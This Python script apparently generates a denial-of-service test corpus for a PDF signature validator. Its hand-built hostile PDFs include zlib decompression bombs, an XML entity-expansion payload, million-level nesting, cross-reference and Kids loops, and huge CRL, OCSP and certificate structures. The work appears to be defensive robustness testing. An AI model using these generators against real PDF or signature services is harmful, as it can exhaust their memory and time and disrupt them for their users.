"""dos_attacks.py FOLDER: files that want to take for ever, or all memory, made by hand, into FOLDER, with roots.pem
(trusted); prints where they are. Whatever is said of them, it must be said."""

import datetime
import json
import pathlib
import re
import sys
import zlib

from cryptography.hazmat.primitives.asymmetric import rsa

from attacks import dss, stream, update
from by_hand import (
    ANSWERING, CERTIFICATE_V2, HEADER, PLACE, STAMP, Cases, Cert, attribute, blank, cms, crl, ctx, digest, extension, general, integer, link, listed, new_ec,
    objects_of, ocsp, octets, oid, pdf, seal, seq, signature, stamped_by, tlv, token, utc)
from later_attacks import with_table_stream
from signatures import DAY, NOW

VALUE = b"<< /Type /Sig /Filter /A /SubFilter /ETSI.CAdES.detached /ByteRange [0 1 2 3] /Contents <00> >>"
MANY = range(1000, 3000)
CATALOG = b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [%s] >> >>"


def flate(data, extra=b"", level=9): return stream(zlib.compress(data, level), b"/Filter /FlateDecode " + extra)
def refs(numbers): return b" ".join(b"%d 0 R" % number for number in numbers)


def bomb(megabytes, extra):
    """A stream that unpacks to so many megabytes of zeros: one packed megabyte, again and again."""
    packer = zlib.compressobj(9, wbits=-15)
    one = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
    check = (megabytes << 20) % 65521 << 16 | 1
    return stream(b"\x78\xda" + one * megabytes + packer.flush() + check.to_bytes(4, "big"), b"/Filter /FlateDecode " + extra)


def packed(numbers, inside, behind=b""):
    """An object stream of which every number is the same object."""
    head = b" ".join(b"%d 0" % number for number in numbers) + b" "
    return flate(head + inside + behind, b"/Type /ObjStm /N %d /First %d " % (len(numbers), len(head)))


def tabled(objects, rows=lambda places: {}):
    """A file whose table is a stream. rows: further entries (number: (kind, field, field)), of the objects' places."""
    out, places = bytearray(HEADER), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    entries = {**{number: (1, place, 0) for number, place in places.items()}, **rows(places)}
    table = max(entries) + 1
    entries[table] = (1, len(out), 0)
    numbers = sorted(entries)
    starts = [number for number in numbers if number - 1 not in entries]
    ends = [number + 1 for number in numbers if number + 1 not in entries]
    index = b" ".join(b"%d %d" % (start, end - start) for start, end in zip(starts, ends))
    raw = b"".join(bytes([kind]) + first.to_bytes(5, "big") + second.to_bytes(4, "big") for kind, first, second in map(entries.get, numbers))
    table_stream = flate(raw, b"/Type /XRef /W [1 5 4] /Index [%s] /Size %d /Root 1 0 R " % (index, table + 1))
    return bytes(out) + b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, table_stream, len(out))


def form(fields, objects=None, rows=lambda places: {}):
    """A file with these fields in its form, and a signature's value (7)."""
    return tabled({**objects_of(), 1: CATALOG % fields, 7: VALUE, **(objects or {})}, rows)


class DosAttacks(Cases):
    def put(self, label, data): self.add(label, "open", data)

    def many_numbers(self):
        for count in (2_000, 20_000, 45_000):
            self.put(f"kids-copy-holder-{count}", form(b"6 0 R", {6: b"<< /FT /Sig /T (a) /V 7 0 R /Kids [%s] >>" % (b"0 " * count)}))
        array = b"[" + b"0 " * 20_000 + b"]"
        self.put("object-stream-one-array-often", form(refs(MANY), {9: packed(MANY, array)}, lambda places: {n: (2, 9, n - 1000) for n in MANY}))
        behind = b" " * (60 << 20)
        self.put("two-object-streams-in-turn", form(refs(MANY), {8: packed(MANY[::2], b"<< /T (a) >>", behind), 9: packed(MANY[1::2], b"<< /T (a) >>", behind)},
                                                    lambda places: {n: (2, 8 + n % 2, (n - 1000) // 2) for n in MANY}))
        self.put("traces-1000", pdf(self.sign, objects=[(9, stream(b"/ByteRange " * 1000))]))
        self.put("traces-1000-entries-1500000", form(b"6 0 R", {9: stream(b"/ByteRange " * 1000)}, lambda places: {n: (1, places[2], 0) for n in range(1000, 1_501_000)}))
        self.put("signatures-33", form(b" ".join(b"<< /FT /Sig /V %d 0 R >>" % n for n in range(100, 133)), {n: VALUE for n in range(100, 133)}))
        # Signed, many numbers of one large object; evidence behind it, so that both revisions are compared.
        for label, nine, row in [("at-one-place", array, lambda places, n: (1, places[9], 0)),
                                 ("in-one-stream", packed(MANY, array), lambda places, n: (2, 9, n - 1000))]:
            first = seal(tabled({**objects_of(), 9: nine, 7: signature()}, lambda places: {n: row(places, n) for n in MANY}), self.sign)
            self.put(f"compare-entries-{label}", update(first, {1: dss(first)}, stream_table=True))

        # All fields share their kids, and change.
        fields = {n: b"<< /FT /Tx /T (a) /Kids 90 0 R >>" for n in MANY}
        first = pdf(self.sign, fields=b"6 0 R " + refs(MANY), objects={90: b"[%s]" % refs(MANY), **fields})
        self.put("compare-fields-of-fields", self.stamp(first, {n: b"<< /FT /Tx /T (b) /Kids 90 0 R >>" for n in MANY}))
        pages = {n: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Annots 90 0 R >>" for n in range(5000, 7000)}
        first = pdf(self.sign, fields=b"6 0 R " + refs(MANY), objects={
            2: b"<< /Type /Pages /Kids [3 0 R %s] /Count 2001 >>" % refs(pages), 90: b"[%s]" % refs(MANY), **pages, **{n: b"<< /FT /Tx /T (a) >>" for n in MANY}})
        self.put("compare-fields-on-all-pages", self.stamp(first, {n: b"<< /FT /Tx /T (b) >>" for n in MANY}))
        self.put("evidence-200000-times", update(first, {1: dss(first, b"/CRLs [%s] " % (b"40 0 R " * 200_000)), 40: stream(b"x")}))

    def signed_often(self, data, times=30, **how):
        """Signed again and again, each time in a field and a revision of its own."""
        for number in range(400, 400 + 2 * times - 2, 2):
            field = b"<< /FT /Sig /T (K%d) /V %d 0 R >>" % (number, number + 1)
            data = seal(update(data, {1: listed(data, 1, b"Fields", number), number: field, number + 1: signature(**how)}), self.sign)
        return data

    def quadratic(self):
        """What is harmless once, for each of many, or for each of many signatures."""
        def evidence(objects, changed={}, **how):
            first = pdf(self.sign, objects=objects, **how)
            return update(first, {1: dss(first, b"/CRLs [40 0 R] "), 40: stream(b"x"), **changed})
        row = range(100, 45_100)
        parents = {n: b"<< /FT /Tx /T (a%d) /Parent %d 0 R >>" % (n, n + 1) for n in row}
        self.put("parents-in-a-row-45000", evidence({**parents, 99: b"<< /X 100 0 R >>", row[-1]: b"<< /FT /Tx /T (z) >>"}, fields=b"6 0 R " + refs(row)))

        def noted(count): return {3: objects_of()[3].replace(b"[6 0 R]", b"[6 0 R %s]" % b" ".join(b"%d" % n for n in range(count)))}
        self.put("annotations-60000", evidence(noted(60_000)))
        self.put("annotations-15000-signed-30-times", self.signed_often(pdf(self.sign, objects=noted(15_000))))
        keys = {50: b"<< %s >>" % b" ".join(b"/K%d %d" % (n, n) for n in range(30_000))}
        self.put("keys-30000", evidence(keys, keys))
        rows = with_table_stream(blank(), {}, number=900, index=b"900 1 1000 1900000", behind=bytes(7 * 1_900_000), size=1_901_000,
                                 coded=zlib.compress, head=b"/Filter /FlateDecode ")
        self.put("rows-1900000-signed-30-times", self.signed_often(seal(rows, self.sign)))
        self.put("words-like-heads-signed-20-times", self.signed_often(pdf(self.sign, objects={44: stream(b"x obj y\n" * 125_000)}), times=20))
        # What nothing leads to: arrays in five generations, each of all of the one before.
        generations = {n: b"[40 0 R]" for n in range(1000, 1020)}
        for first in range(2000, 6000, 1000):
            generations |= {n: b"[%s]" % refs(range(first - 1000, first - 980)) for n in range(first, first + 20)}
        self.put("arrays-in-generations", evidence({}, generations))
        # Answers by one who may speak if nobody took that back, on which there are lists that are over.
        place = extension(PLACE, False, seq(seq(ctx(0, ctx(0, link(b"http://x/y.crl"))))))
        responder = Cert("Tra loi", self.rsa, self.ca, purposes=[ANSWERING], extra=[place])
        taken_back = b"".join(seq(integer(10**9 + n), utc(NOW - 5 * DAY)) for n in range(100))
        words = {"CRLs": [crl(self.ca, at=-20 - n / 1000, days=2, entries=taken_back) for n in range(60)],
                 "OCSPs": [ocsp(self.lan, self.ca, responder, at=-1 - n / 1000, certs=[responder] * 8) for n in range(64)]}
        stamped = stamped_by(self.tsa, (self.time_root,))
        self.put("words-sixty-times-sixty-four", self.signed_often(pdf(lambda covered: self.sign(covered, unsigned=[stamped]), kept=words)))

    def large_words(self):
        entries = seq(integer(12345), utc(NOW - DAY)) * 490_000
        word, wide = flate(crl(self.ca, entries=entries)), flate(crl(self.ca, extra=[extension("2.5.29.20", False, bytes(55 << 20))]))
        for label, kept, count in [("500000-once", word, 1), ("500000-sixty-four-same", word, 64), ("55-mb-sixty-four", wide, 64)]:
            self.put(f"crl-{label}", pdf(self.sign, catalog=b"/DSS << /CRLs [%s] >>" % refs([20] * count), objects=[(20, kept)]))
        self.put("flate-bomb-table", b"%PDF-1.7\n1 0 obj\n" + bomb(3072, b"/Type /XRef /W [1 1 1] /Size 9 /Root 1 0 R ") + b"\nendobj\n/ByteRange\nstartxref\n9\n%%EOF\n")
        for label, packet in {
                "deep": b"<a>" * 300_000 + b"</a>" * 300_000, "deep-names": b"".join(b"<a xmlns:n%d='u%d'>" % (n, n) for n in range(20_000)) + b"</a>" * 20_000,
                "attributes": b"<a " + b" ".join(b"a%d='1'" % n for n in range(120_000)) + b"/>",
                "names": b"<a " + b" ".join(b"xmlns:a%d='u%d'" % (n, n) for n in range(60_000)) + b"/>",
                "entities": b"<!DOCTYPE a [<!ENTITY b '" + b"x" * 9999 + b"'>]><a>" + b"&b;" * 9999 + b"</a>"}.items():
            self.put(f"metadata-{label}", pdf(self.sign, catalog=b"/Metadata 9 0 R", objects=[(9, stream(packet, b"/Type /Metadata /Subtype /XML "))]))
        self.put("flate-bomb-metadata", pdf(self.sign, catalog=b"/Metadata 9 0 R", objects=[(9, bomb(3072, b"/Type /Metadata "))]))

    def again_and_again(self):
        """Texts that each begin in the one before; tables of many lines of one byte; objects that lie crosswise."""
        for count, room in ((2000, 0), (5000, 1 << 20)):
            nested = b"".join(b"%d 0 obj (" % (1000 + n) for n in range(count)) + b"x" * room + b") endobj " * count
            self.put(f"texts-in-each-other-{count}", pdf(self.sign, objects=[(9, b"(%s)" % nested)]))
        table = b"<< /Type /XRef /W [1 1 1] /Index [0 1] /Size 900 /Root 1 0 R /Prev %d /Length %d /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 1 >> >>"
        raw = zlib.compress(bytes(60 << 20), 9)
        for count in (1, 8):
            data = update(HEADER, {**objects_of(), 7: VALUE}, prev=None)
            at = int(re.findall(rb"startxref\s+(\d+)", data)[-1])
            for number in range(100, 100 + count):
                head, at = b"%d 0 obj\n%s\nstream\n" % (number, table % (at, len(raw))), len(data)
                data += head + raw + b"\nendstream\nendobj\n"
            self.put(f"tables-of-one-column-{count}", data + b"startxref\n%d\n%%%%EOF\n" % at)
        count = 100_003
        crosswise = {1000 + n * 7919 % count: b"(x)" for n in range(count)}
        signed = seal(update(HEADER, {**objects_of(), **crosswise, 7: signature(room=6000)}, prev=None), self.sign)
        self.put("objects-crosswise", self.signed_often(signed, room=6000))

    def crowds(self):
        """Answers that each bring a crowd of those who may have given them, and tell of the one who did; words that may be heads,
        behind many remarks."""
        authority = Cert("Ke", rsa.generate_private_key(65537, 4096), authority=True)
        leaf, one = Cert("Lan", self.rsa, authority), Cert("R", new_ec(), authority, purposes=[ANSWERING])
        fakes = [one.der[:-200] + bytes([n]) + one.der[-199:] for n in range(31)]
        answers = [ocsp(about, authority, one, at=-1 - n / 1000, certs=[*fakes, one.der]) for n in range(64) for about in (leaf, one)]
        self.put("answers-crowd", pdf(lambda covered: cms(covered, leaf, (authority,)), kept={"OCSPs": answers}))
        block = b"y" * 420 + b"\nx\n" + b"%\n" * 300 + b"<<<<<<<<%>>obj\n" * 24
        self.put("heads-behind-remarks", update(pdf(self.sign, objects=[(9, stream(block * 4000))]), {60: b"<< >>"}))

    def many_of_a_kind(self):
        """Extensions, attributes, names of certificates, places of lists, letters that are words, fonts of a form."""
        put = lambda label, cert, **how: self.put(label, pdf(lambda covered: cms(covered, cert, self.chain, **how), room=15_500_000))
        many = [extension(f"1.2.3.{n // 10000 + 1}.{n % 10000 + 1}", False, b"") for n in range(400_000)]
        put("extensions-400000", Cert("Lan", self.rsa, self.ca, extra=many))
        put("attributes-200000", self.lan, attrs=lambda l, c, h: [*l, *[seq(oid(f"1.2.4.{n // 10000 + 1}.{n % 10000 + 1}"), tlv(0x31, b"\5\0")) for n in range(200_000)]])
        ids = [seq(octets(n.to_bytes(32, "big"))) for n in range(20_000)]
        put("named-20000", self.lan, attrs=lambda l, c, h: [*l[:2], attribute(CERTIFICATE_V2, seq(seq(seq(octets(digest("sha256", self.lan.der))), *ids)))])
        put("words-of-one-letter", Cert("\ufdfa" * 60_000, self.rsa, self.ca))
        places = seq(*[seq(ctx(0, ctx(0, link(b"http://a/%d" % n)))) for n in range(60_000)])
        self.put("places-60000", pdf(lambda covered: cms(covered, Cert("Lan", self.rsa, self.ca, extra=[extension(PLACE, False, places)]), self.chain), room=9_000_000, kept={
            "CRLs": [crl(self.ca, extra=[extension("2.5.29.28", True, seq(ctx(0, ctx(0, b"".join(link(b"http://b/%d" % n) for n in range(60_000))))))])]}))
        fonts = b" ".join(b"/F%d 33 0 R" % n for n in range(1500))
        fields = {n: b"<< /FT /Tx /T (f%d) /Type /Annot /Subtype /Widget /Rect [9 9 99 29] /P 3 0 R /DA (/F%d 9 Tf 0 g) /AP << /N 36 0 R >> >>" % (n, n - 1000) for n in range(1000, 2500)}
        listed_ = refs(fields)
        shown = stream(b"/Tx BMC EMC", b"/Type /XObject /Subtype /Form /BBox [0 0 90 20] /Resources << >> ")
        first = pdf(self.sign, objects={1: b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R %s] /SigFlags 3 /DR << /Font << %s >> >> >> >>" % (listed_, fonts),
                                        33: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", 36: shown, **fields})
        self.put("fonts-1500", update(first, {n: field.replace(b"/AP", b"/V (a) /AP") for n, field in fields.items()}))

    def deep_syntax(self):
        for label, fields in {"nesting-arrays": b"[" * 1_000_000, "nesting-dictionaries": b"<< /A " * 800_000, "text-open": b"(" * 5_000_000}.items():
            self.put(label, form(fields))
        self.put("comment-endless", form(b"", {1: b"% " + b"x" * 5_000_000}))
        self.put("cms-nested", pdf(lambda covered: b"\x30\x82\x27\x10" + b"\x30\x80" * 4900, room=40_000))

    def tables(self):
        head = b"%PDF-1.7\n1 0 obj\n" + VALUE + b"\nendobj\n"
        at = len(head)

        def loop(prev, extra=b"", rows=b"0 1\n0000000000 65535 f \n"):
            return head + b"xref\n%strailer\n<< /Root 1 0 R /Size 2 /Prev %d %s >>\nstartxref\n%d\n%%%%EOF\n" % (rows, prev, extra, at)
        self.put("prev-loop", loop(at))
        self.put("prev-negative", loop(-5))
        self.put("xrefstm-self", loop(at, b"/XRefStm %d" % at))
        self.put("table-count-huge", loop(at, rows=b"0 8388607\n0000000000 65535 f \n"))
        self.put("table-many-sections", loop(at, rows=b"0 1\n0000000000 65535 f \n" + b"5 0\n" * 1_000_000))
        many = update(HEADER, {1: CATALOG % b"7 0 R", 7: b"<< /FT /Sig /T (a) /V 8 0 R >>", 8: VALUE}, prev=None)
        table = many[many.rindex(b"xref\n0 1"):many.rindex(b"startxref")]
        for _ in range(998):
            before = int(re.findall(rb"startxref\n(\d+)", many[-40:])[-1])
            many += table.replace(b"/Root", b"/Prev %d /Root" % before) + b"startxref\n%d\n%%%%EOF\n" % len(many)
        self.put("sections-999", many)

    def loops(self):
        self.put("length-loop", form(b"6 0 R", {6: b"<< /Length 6 0 R >>\nstream\nabc\nendstream"}))
        self.put("length-chain", form(b"20 0 R", {n: b"<< /Length %d 0 R >>\nstream\nabc\nendstream" % (n + 1) for n in range(20, 220)}))
        self.put("kids-loop", form(b"6 0 R", {6: b"<< /FT /Sig /Kids [6 0 R 8 0 R] >>", 8: b"<< /Kids [6 0 R] /Parent 8 0 R >>"}))
        self.put("parent-loop", form(b"6 0 R", {6: b"<< /Parent 6 0 R >>"}))
        keys = [new_ec() for _ in range(4)]
        certs = [Cert("Vong", keys[n % 4], authority=True, signing=keys[(n + 1) % 4]) for n in range(58)]
        leaf = Cert("Lan", self.rsa, certs[0])
        self.put("chain-of-look-alikes", pdf(lambda covered: cms(covered, leaf, certs), room=100_000))

        def stamps(value):
            return [token(value, self.tsa, (self.time_root,), when=general(NOW + datetime.timedelta(seconds=n))) for n in range(9)]
        heap = attribute("1.2.3.4", b"\x30\x80\0\0" * 50_000)
        self.put("values-without-length", pdf(lambda covered: self.sign(covered, unsigned=[heap]), room=600_000))
        tags = attribute("1.2.3.4", b"\x1f\0\0" * 200_000)
        self.put("values-of-long-tags", pdf(lambda covered: self.sign(covered, unsigned=[tags]), room=1_400_000))
        coded = b"<?xpacket?><x:xmpmeta xmlns:x='adobe:ns:meta/'><rdf:RDF xmlns:rdf='http://www.w3.org/1999/02/22-rdf-syntax-ns#'><rdf:Description xmlns:dc='http://purl.org/dc/elements/1.1/' " \
                b"dc:identifier='A'/></rdf:RDF></x:xmpmeta>"
        for label, content in {"names": b"".join(b"/Mark%d Do\n" % n for n in range(2_000_000)), "operands": b"[]" * 15_000_000}.items():
            page = objects_of()[3].replace(b"/Resources << >>", b"/Resources << /XObject << /X 9 0 R >> >>")
            self.put(f"mark-of-many-{label}", pdf(self.sign, objects={3: page, 4: flate(content), 9: stream(b"", b"/Subtype /Form "), 20: stream(coded[11:], b"/Type /Metadata /Subtype /XML ")},
                                                  catalog=b"/Metadata 20 0 R"))
        own = Cert("CA x", new_ec(), self.root, authority=True)
        entries = [seq(integer(n), utc(NOW), seq(extension("2.5.29.29", True, seq(*[ctx(4, seq(tlv(0x31, seq(oid("2.5.4.3"), tlv(12, b"%d " % (8 * n + m) + "\ufdfa".encode() * 300))))) for m in range(8)])))) for n in range(400)]
        named = crl(own, entries=b"".join(entries), extra=[extension("2.5.29.28", True, seq(ctx(4, b"\xff", False)))])
        below = Cert("Lan", self.rsa, self.ca, extra=[extension(PLACE, False, seq(seq(ctx(0, ctx(0, link(b"http://a.example/"))))))])
        self.put("entries-of-many-issuers", pdf(lambda covered: cms(covered, below, self.chain), kept={"CRLs": [named]}))
        copies = {n: b"<< >>\nendobj\n60000 0 obj\n<< /A 1 >>" for n in range(1000, 41000)}
        self.put("objects-written-twice", update(pdf(self.sign), {**copies, 60000: b"<< /A 1 >>"}))
        self.put("stamps-nested", pdf(lambda covered: self.sign(covered, unsigned=[lambda value: attribute(STAMP, *stamps(value))]), room=60_000))


if __name__ == "__main__":
    attacks = DosAttacks()
    for kind in [attacks.many_numbers, attacks.quadratic, attacks.large_words, attacks.again_and_again, attacks.crowds, attacks.many_of_a_kind, attacks.deep_syntax, attacks.tables, attacks.loops]:
        kind()
    print(json.dumps([{"path": str(path)} for path, *_ in attacks.write(pathlib.Path(sys.argv[1]))]))
